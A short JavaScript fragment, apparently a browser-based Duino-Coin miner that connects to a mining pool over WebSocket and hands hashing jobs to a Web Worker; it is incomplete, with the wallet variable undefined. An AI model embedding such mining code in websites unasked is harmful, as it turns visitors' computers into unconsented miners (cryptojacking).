var socket = new WebSocket('wss://magi.duinocoin.com:14808');
socket.onmessage = function (e) {
  if (e.data.indexOf('GOOD') === 0) socket.send('JOB,' + who + ',LOW');
  else worker.postMessage(e.data);
};
var worker = new Worker('/sha.js'), hashrate = 0;
worker.onmessage = function (e) { socket.send(e.data.n + ',' + hashrate + ',Web Miner,rig'); };
